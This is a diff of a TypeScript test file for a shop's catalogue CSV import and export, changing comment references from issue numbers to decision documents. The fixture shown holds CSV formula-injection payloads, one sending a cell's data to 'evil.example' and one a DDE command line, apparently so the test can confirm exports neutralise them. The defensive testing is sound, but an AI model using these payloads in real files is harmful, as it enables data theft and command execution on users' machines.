@@ -1,4 +1,4 @@
-// Catalogue import and export (issue 10, docs/decisions/013): a dry run reports every bad row by line and writes
+// Catalogue import and export (docs/decisions/013-shop-admin.md): a dry run reports every bad row by line and writes
 // nothing; a real import writes nothing when a row is bad, else creates and updates in one transaction, audited;
 // an export imports back unchanged, into the same shop or an empty one.
 import type { AdminProduct, ImportReport, ProductInputDraft } from '@shop/shared/admin.schemas';
@@ -350,7 +350,7 @@ describe('a file from an older export (docs/decisions/019)', () => {
   });
 });
 
-describe('CSV cells a spreadsheet would run as formulas (issue 17 item 7)', () => {
+describe('CSV cells a spreadsheet would run as formulas (docs/decisions/019-admin-edits-never-undo-sales.md item 7)', () => {
   const hostile = {
     name: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
     description: "+cmd|' /C calc'!A0",
